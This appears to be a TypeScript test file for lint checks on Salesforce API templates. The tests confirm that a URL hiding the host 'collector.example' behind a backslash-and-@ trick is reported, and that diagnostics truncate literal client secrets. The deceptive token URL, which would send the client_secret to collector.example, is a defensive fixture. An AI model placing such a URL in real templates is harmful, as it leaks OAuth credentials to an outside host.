// The checks read a URL's host the way fetch will (the core's URL reader): a host hidden behind
// another is reported, and no diagnostic quotes a secret beyond its first characters.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { oauthBody } from './oauth-body';
import { oauthTokenUrl } from './oauth-token-url';
import { urlInvalid } from './url-invalid';
import { urlNotSalesforce } from './url-not-salesforce';
import { runCheck } from '../../../../test/support/check-test-helper';

const LEAD = 'https://acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/';
const tokenCall = (url: string, body = 'client_id=abc&client_secret=[insert_client_secret]&grant_type=client_credentials') => `{% connected_content ${url} :method post :body ${body} :save result %}Bearer {{result.access_token}}`;
const template = (url: string, token = 'https://acme.my.salesforce.com/services/oauth2/token', body?: string) => `POST ${url}\nAuthorization: ${tokenCall(token, body)}\nContent-Type: application/json\n\n{"LastName": "x"}\n`;
const HIDDEN = 'https://collector.example\\@acme.my.salesforce.com/services/oauth2/token';

test('a token URL that reads as acme.my.salesforce.com but goes to collector.example is reported, naming it', () => {
  const found = runCheck(oauthTokenUrl, template(LEAD, HIDDEN));
  const hidden = found.find((f) => /collector\.example/.test(f.message));
  assert.ok(hidden, JSON.stringify(found));
  assert.equal(hidden.slice, 'acme.my.salesforce.com');
  assert.match(hidden.message, /reads as going to acme\.my\.salesforce\.com, but a request goes to collector\.example/);
});

test('the request URL too; and its host is not advised on by the name written', () => {
  const text = template('https://collector.example\\@acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/');
  assert.ok(runCheck(urlInvalid, text).some((f) => /a request goes to collector\.example/.test(f.message)));
  assert.deepEqual(runCheck(urlNotSalesforce, text), []);
  assert.ok(runCheck(urlInvalid, template('https://u:pw@acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/')).some((f) => /user name or password/.test(f.message)));
});

test('letter case and a trailing dot are the same host: nothing reported', () => {
  const text = template('https://ACME.my.salesforce.com./services/data/v60.0/sobjects/Lead/', 'https://Acme.My.Salesforce.com/services/oauth2/token');
  assert.deepEqual(runCheck(urlInvalid, text).map((f) => f.message), []);
  assert.deepEqual(runCheck(urlNotSalesforce, text).map((f) => f.message), []);
  assert.deepEqual(runCheck(oauthTokenUrl, text).map((f) => f.message), []);
});

test('oauth-body and the URL checks quote a literal secret by its first characters only', () => {
  const secret = 'Lit3ralSecretValue';
  const body = template(LEAD, 'https://acme.my.salesforce.com/services/oauth2/token', `client_secret=${secret}&grant_type=client_credentials`);
  const bodyFound = runCheck(oauthBody, body);
  assert.ok(bodyFound.length > 0);
  for (const f of bodyFound) assert.ok(!f.message.includes(secret), f.message);
  assert.ok(bodyFound.some((f) => f.message.includes('client_secret=Lit3…')), bodyFound.map((f) => f.message).join('\n'));
  const inUrl = template(`http://acme.my.salesforce.com/services/data/v60.0/sobjects/Lead/?client_secret=${secret}`, `https://u:${secret}@acme.my.salesforce.com:8443/oauth?access_token=${secret}`);
  const urlFound = [...runCheck(urlInvalid, inUrl), ...runCheck(oauthTokenUrl, inUrl)];
  assert.ok(urlFound.length >= 3, urlFound.map((f) => f.message).join('\n'));
  for (const f of urlFound) assert.ok(!f.message.includes(secret), f.message);
});
